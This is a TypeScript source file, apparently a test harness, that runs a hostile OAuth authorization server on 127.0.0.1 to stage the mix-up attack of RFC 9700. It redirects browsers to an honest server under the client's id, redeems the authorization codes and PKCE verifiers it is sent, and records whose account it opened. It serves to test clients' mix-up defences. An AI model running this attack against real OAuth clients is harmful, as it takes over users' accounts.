// The hostile server of a mix-up: an authorization server that sends browsers on to an honest one and takes what comes back. Really runs, on 127.0.0.1.
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { askToken, askWho, readMetadata } from "./wire.ts";

/** A running hostile server. */
export interface HostileServer {
  readonly issuer: string;
  /** How many codes were brought to its token endpoint. */
  codes(): number;
  /** Whose account the last of them opened at the honest server. */
  loot(): string | undefined;
  close(): Promise<void>;
}

interface Honest {
  readonly issuer: string;
  /** The client's name there. */
  readonly clientId: string;
  readonly fetch: typeof globalThis.fetch;
}

/** Starts one that is after the users of this honest server. */
export async function startHostileServer(honest: Honest): Promise<HostileServer> {
  let codes = 0;
  let loot: string | undefined;
  const server = createServer(async (request, response) => {
    const url = new URL(request.url ?? "/", issuer);
    if (url.pathname === "/authorize") return sendOn(url, { honest, response });
    if (url.pathname !== "/token") return answer(response, metadataOf(issuer));
    codes += 1;
    loot = await redeem(await readForm(request), honest).catch(() => undefined);
    answer(response, { error: "temporarily_unavailable" }, 503);
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen({ host: "127.0.0.1", port: 0 }, resolve);
  });
  const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    issuer,
    codes: () => codes,
    loot: () => loot,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Where its authorization endpoint sends the browser: the same request, under the client's name at the honest server (RFC 9700 §4.4.1, step 3). */
async function sendOn(
  { searchParams }: URL,
  { honest, response }: { honest: Honest; response: ServerResponse },
): Promise<void> {
  const { authorization_endpoint: endpoint } = await readMetadata(honest.issuer, honest.fetch);
  const url = new URL(endpoint);
  searchParams.set("client_id", honest.clientId);
  url.search = searchParams.toString();
  response.writeHead(303, { location: url.href }).end();
}

/** The client has sent everything that the honest server wants: the code, the redirect URI, and the PKCE verifier too. */
async function redeem(form: URLSearchParams, honest: Honest): Promise<string | undefined> {
  const { fetch } = honest;
  const metadata = await readMetadata(honest.issuer, fetch);
  const body = { ...Object.fromEntries(form), client_id: honest.clientId };
  const { access_token: token } = await askToken(metadata.token_endpoint, { body, fetch });
  return askWho(metadata.userinfo_endpoint, { token, fetch });
}

function metadataOf(issuer: string): object {
  return {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    userinfo_endpoint: `${issuer}/userinfo`,
    response_types_supported: ["code"],
    code_challenge_methods_supported: ["S256"],
    token_endpoint_auth_methods_supported: ["none"],
  };
}

function answer(response: ServerResponse, body: object, status = 200): void {
  response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
}

const largestForm = 16 * 1024;

async function readForm(request: IncomingMessage): Promise<URLSearchParams> {
  let text = "";
  for await (const chunk of request) {
    text += chunk;
    if (text.length > largestForm) return new URLSearchParams();
  }
  return new URLSearchParams(text);
}
